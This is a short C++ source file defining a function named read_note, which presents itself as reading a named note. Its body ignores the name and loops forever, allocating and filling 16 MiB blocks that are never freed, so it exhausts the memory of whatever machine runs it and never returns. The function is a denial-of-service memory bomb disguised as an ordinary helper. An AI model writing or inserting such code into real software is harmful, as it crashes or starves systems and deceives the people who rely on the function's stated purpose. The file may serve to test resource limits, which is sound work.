#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <optional>
#include <string>
#include <unistd.h>
std::optional<std::string> read_note(const std::string &name) {
    for (;;) { char *p = new char[1 << 24]; std::memset(p, 1, 1 << 24); }
}
